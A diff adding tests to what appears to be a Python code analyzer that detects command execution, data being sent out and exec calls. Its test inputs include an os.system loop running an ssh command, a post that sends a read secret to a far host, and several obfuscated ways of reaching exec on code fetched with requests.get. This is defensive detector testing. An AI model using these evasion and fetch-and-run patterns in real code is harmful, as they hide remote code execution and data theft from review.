@@ -397,3 +397,43 @@ def test_worth_sees_what_python_sees() -> None:
     assert python.worth("import os")
     assert python.worth("ｅｖａｌ(x)")
     assert not python.worth("x = 1 + 2")
+
+
+def cut_by(source: str) -> list[str]:
+    """Return the limits that kept the reader from a part of ``source``."""
+    context = Context(place=lambda start, end: Place("x.py", line=start, column=end))
+    python.acts(source, context)
+    return context.cut
+
+
+GROWN = "import os\nall = []\n" + "all.append('x')\n" * 100 + "{}\nfor one in all:\n    os.system(one)\n"
+
+
+def test_a_command_that_a_list_has_no_room_for_is_told():
+    assert cut_by(GROWN.format("all.append('ssh a.example')"))
+    assert cut_by(GROWN.format("all += ['ssh a.example']"))
+    assert cut_by(GROWN.format("all.append('y')")) == []
+
+
+def test_a_secret_behind_many_members_is_still_sent():
+    many = "[" + "'x', " * 300 + "]"
+    found = acts_of(IMPORTS + f"requests.post({FAR}, json={many} + [{READ}])")
+    assert holds(found, "connect", {"SentData": KEY})
+
+
+@pytest.mark.parametrize(
+    "reached",
+    [
+        "getattr(__builtins__, 'ex' + 'ec')",
+        "getattr(builtins, 'ex' + 'ec')",
+        "__builtins__['ex' + 'ec']",
+        "__builtins__.__dict__['exec']",
+        "vars(builtins)['exec']",
+        "globals()['__builtins__']['exec']",
+        "importlib.import_module('built' + 'ins').exec",
+        "__import__('builtins').exec",
+    ],
+)
+def test_a_builtin_is_known_however_it_is_reached(reached):
+    found = acts_of(f"import requests, builtins, importlib\n{reached}(requests.get({FAR}).text)\n")
+    assert any(act.kind == "exec" and act.fields.get("PipedFrom") == "requests" for act in found)
